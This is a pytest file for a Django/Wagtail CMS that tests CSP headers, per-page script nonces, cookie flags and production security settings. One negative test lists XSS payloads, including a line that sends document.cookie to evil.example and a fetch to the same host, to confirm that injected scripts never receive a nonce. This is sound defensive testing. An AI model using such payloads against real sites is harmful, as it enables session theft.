"""Content-Security-Policy, cookies, and the settings of production."""

from __future__ import annotations

import os
import re
import secrets
import subprocess
import sys
from pathlib import Path

import pytest
from django.test import Client

from cms.accounts.inline_scripts import admit_known_scripts, is_known
from tests.factories.accounts import make_staff

ROOT = Path(__file__).resolve().parents[3]
INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)(?![^>]*\bnonce=)[^>]*>")
INLINE_HANDLER = re.compile(r"<[^>]+\son[a-z]+=", re.IGNORECASE)
INLINE_STYLE = re.compile(r"<[^>]+\sstyle=|<style", re.IGNORECASE)


def browser_of(user) -> Client:
    client = Client(SERVER_NAME="town.test")
    client.force_login(user, backend="django.contrib.auth.backends.ModelBackend")
    return client


def directives(answer) -> dict[str, list[str]]:
    parts = [part.split() for part in answer["Content-Security-Policy"].split(";")]
    return {name: sources for name, *sources in parts}


@pytest.mark.django_db
@pytest.mark.parametrize(
    "path",
    [
        "/en/account/login/",
        "/el/account/login/password/",
        "/en/account/signup/",
        "/en/",
        "/town.css",
        "/en/nothing/",
    ],
)
def test_public_pages_allow_their_own_host_only_and_nothing_unsafe(client, path):
    answer = client.get(path)
    policy = directives(answer)
    assert policy["default-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'self'"]
    assert policy["form-action"] == ["'self'"]
    assert "unsafe" not in answer["Content-Security-Policy"]
    assert "*" not in answer["Content-Security-Policy"]
    assert "nonce" not in answer["Content-Security-Policy"], "a cached page needs no nonce"
    if answer["Content-Type"].startswith("text/html"):
        html = answer.content.decode()
        for forbidden in (INLINE_SCRIPT, INLINE_HANDLER, INLINE_STYLE):
            assert not forbidden.search(html), forbidden.search(html)


@pytest.mark.django_db
def test_the_admin_allows_no_more_than_its_own_host_and_the_nonce_of_the_page():
    client = browser_of(make_staff(group="Administrators"))
    for path in (
        "/admin/",
        "/admin/users/",
        "/admin/reports/deeds/",
        "/admin/municipality/",
        "/admin/images/",
        "/admin/documents/",
    ):
        answer = client.get(path)
        assert answer.status_code == 200, path
        policy = directives(answer)
        assert "unsafe" not in answer["Content-Security-Policy"]
        assert policy["style-src"] == ["'self'"]
        html = answer.content.decode()
        assert not INLINE_SCRIPT.search(html), (path, INLINE_SCRIPT.search(html))
        nonces = set(re.findall(r'<script nonce="([^"]+)"', html))
        assert policy["script-src"] == ["'self'", *(f"'nonce-{nonce}'" for nonce in nonces)]


@pytest.mark.django_db
def test_each_page_has_another_nonce():
    client = browser_of(make_staff(group="Administrators"))
    first, second = (directives(client.get("/admin/reports/deeds/"))["script-src"] for _time in range(2))
    assert first != second
    assert any("nonce" in source for source in first)


@pytest.mark.parametrize(
    "code",
    [
        'initDateChooser("id_at", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
        'initDateTimeChooser("id_at\\u002D1", {});',
        'new PageChooser("id_parent", {"modalUrl": "/admin/choose-page/"});',
        'createTaskChooser("id_task");',
        """
        (function() {
            var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022: \\u0022id_links\\u0022}"));
        })();
    """,
    ],
)
def test_the_known_starters_of_wagtail_are_known(code):
    assert is_known(code)


@pytest.mark.parametrize(
    "code",
    [
        "alert(1)",
        "",
        'initDateChooser("id", {}); alert(1);',
        'initDateChooser("id", alert(1));',
        'initDateChooser("id", {"a": alert(1)});',
        'initDateChooser("id"); alert("x")',
        'new PageChooser("id", {}); new Image().src="//evil.example/"+document.cookie;',
        "new PageChooser(`id`, {});",
        'alert("id", {})',
        'window.initDateChooser("id", {});',
        'fetch("https://evil.example");',
        '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
        '(function() { var panel = new InlinePanel(JSON.parse("" + alert(1) + "")); })();',
        'initDateChooser("id", {"__proto__": {}})//\nalert(1)',
    ],
)
def test_nothing_else_gets_the_nonce(code):
    assert not is_known(code)
    page = f"<p>x</p><script>{code}</script>"
    assert admit_known_scripts(page, lambda: pytest.fail("no nonce was needed")) == page


@pytest.mark.django_db
def test_cookies_are_out_of_reach_of_scripts(client):
    answer = client.get("/en/account/login/")
    token = answer.cookies["csrftoken"]
    assert token["httponly"]
    make_staff("ed@town.test", password="a-long-password-1")
    answer = client.post(
        "/en/account/login/password/", {"login": "ed@town.test", "password": "a-long-password-1"}
    )
    session = answer.cookies["sessionid"]
    assert session["httponly"]
    assert session["samesite"] == "Lax"


LEFT_BY_TESTS = {"HTTPS", "STAFF_SECOND_FACTOR", "DJANGO_ALLOW_ASYNC_UNSAFE"}


def production(*command: str) -> subprocess.CompletedProcess[str]:
    env = {
        **{name: value for name, value in os.environ.items() if name not in LEFT_BY_TESTS},
        "DJANGO_SETTINGS_MODULE": "cms.settings.base",
        "SECRET_KEY": secrets.token_urlsafe(60),
        "HTTPS": "1",
        "STAFF_SECOND_FACTOR": "1",
    }
    return subprocess.run(
        [sys.executable, *command], cwd=ROOT, env=env, capture_output=True, text=True, check=False
    )


def test_production_settings_pass_the_deployment_check():
    done = production("manage.py", "check", "--deploy", "--fail-level", "WARNING")
    assert done.returncode == 0, done.stderr


def test_production_asks_for_tls_secure_cookies_and_a_second_factor():
    names = [
        "SESSION_COOKIE_SECURE",
        "SESSION_COOKIE_HTTPONLY",
        "CSRF_COOKIE_SECURE",
        "CSRF_COOKIE_HTTPONLY",
        "SECURE_SSL_REDIRECT",
        "SECURE_HSTS_SECONDS",
        "STAFF_SECOND_FACTOR",
    ]
    code = f"from django.conf import settings; print(all(getattr(settings, name) for name in {names}), settings.DEBUG, settings.DEMO)"
    assert production("-c", code).stdout.split() == ["True", "False", "False"]
